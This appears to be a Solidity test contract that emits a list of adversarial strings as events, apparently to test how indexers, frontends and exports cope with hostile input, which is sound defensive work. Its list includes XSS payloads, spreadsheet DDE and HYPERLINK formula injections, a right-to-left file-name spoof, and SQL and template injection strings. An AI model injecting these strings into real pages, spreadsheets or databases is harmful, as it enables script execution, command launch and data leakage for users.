// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import "./Crowd.sol";

/// Says what an attacker would say to whoever shows, copies or exports it.
contract Hostile is Crowd {
    event Message(address indexed author, string text);
    event Profile(string indexed handle, string displayName, string website, bytes avatar);

    string[] private _texts;

    constructor() {
        _texts.push("<img src=x onerror=alert(1)>");
        _texts.push("</script><script>alert(document.domain)</script>");
        _texts.push("javascript:alert(1)");
        _texts.push('=HYPERLINK("https://example.invalid/?"&A1,"open")');
        _texts.push("+1+cmd|' /C calc'!A0");
        _texts.push("@SUM(1+1)*cmd|' /C calc'!A0");
        _texts.push(unicode"invoice_\u202Efdp.exe"); // right-to-left override
        _texts.push(unicode"0xdead\u200B\u200D\uFEFFbeef"); // zero-width characters
        _texts.push(unicode"\u2066isolated\u2069 \u061Cmark");
        _texts.push("nul\x00 bell\x07 escape\x1b[31m tab\t newline\nreturn\r");
        _texts.push(unicode"Ze\u0301ro c\u0327o\u0308mb\u0336\u0336\u0336\u0336i\u0353\u0353\u0353ning");
        _texts.push("__proto__");
        bytes memory broken = hex"fffe80c0af";
        _texts.push(string(broken)); // not UTF-8
        _texts.push("${7*7} {{7*7}} %s%n ; DROP TABLE logs;--");
        _texts.push("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
        _texts.push("");
        bytes memory wall = new bytes(4096);
        for (uint256 i; i < wall.length; ++i) wall[i] = "W";
        _texts.push(string(wall)); // one word of four thousand letters
    }

    function count() external view returns (uint256) {
        return _texts.length;
    }

    /// Says the text of this number.
    function say(uint256 number) public {
        emit Message(msg.sender, _texts[number % _texts.length]);
    }

    function shout(uint256 seed, uint256 times) external {
        for (uint256 i; i < times; ++i) {
            uint256 random = _random(seed, i);
            if (random >> 255 == 0) emit Message(_somebody(random), _pick(random >> 40));
            else emit Profile(_pick(random >> 40), _pick(random >> 80), _pick(random >> 120), bytes(_pick(random >> 160)));
        }
    }

    function _pick(uint256 random) private view returns (string memory) {
        return _texts[random % _texts.length];
    }
}
